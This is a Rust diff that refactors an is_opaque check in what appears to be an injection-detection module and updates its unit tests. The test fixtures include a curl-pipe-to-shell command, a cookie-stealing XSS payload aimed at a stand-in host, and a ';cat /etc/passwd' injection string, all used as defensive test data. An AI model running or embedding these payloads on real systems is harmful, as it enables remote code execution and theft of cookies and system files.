@@ -34,13 +34,12 @@ pub(super) fn is_binary(value: &[u8]) -> bool {
     10 * (controls + invalid) > value.len()
 }
 
-/// Whether the characters of a value look random, those of the match included: signatures,
-/// encrypted texts, sensor data. An attack in random padding has words.
-pub(super) fn is_opaque(value: &[u8], matched: &[u8]) -> bool {
+/// Whether the characters of a value look random: signatures, encrypted texts, sensor data. An attack
+/// in random padding has words of its own.
+pub(super) fn is_opaque(value: &[u8]) -> bool {
     value.len() >= MIN_OPAQUE_BYTES
         && !has_words(value, value.len().div_ceil(8))
         && marks(value) >= MIN_OPAQUE_MARKS
-        && !has_words_of_attack(matched)
 }
 
 /// Whether a match has the words of a command, a query or an address.
@@ -87,8 +86,8 @@ mod tests {
     #[test]
     fn random_characters_are_opaque() {
         let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^"#;
-        assert!(is_opaque(value, b"'l;b"));
-        assert!(!is_opaque(&value[..30], b"'l;b"));
+        assert!(is_opaque(value) && !has_words_of_attack(b"'l;b"));
+        assert!(!is_opaque(&value[..30]));
         assert!(is_random(value));
         assert!(!is_random(&b"!#$%&()*+,-./:;<=>?@[]^_{|}~".repeat(4)));
         assert!(!is_random(&[[0x0B; 60].as_slice(), b"$(curl http://a.example/x|sh)"].concat()));
@@ -101,10 +100,9 @@ mod tests {
             "<img src=x onerror=\"fetch('//a.example/?'+document.cookie)\">; {[(!@#$%^&*)]}",
             "for (const [k, v] of Object.entries(x)) { if (k !== 'a' && v > 3) y[k] += `${v}`; }",
         ] {
-            assert!(!is_opaque(value.as_bytes(), b"x"), "{value}");
+            assert!(!is_opaque(value.as_bytes()), "{value}");
         }
-        let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^ ;cat /etc/passwd"#;
-        assert!(!is_opaque(value, b";cat /etc/passwd"));
+        assert!(has_words_of_attack(b";cat /etc/passwd"));
     }
 
     #[test]
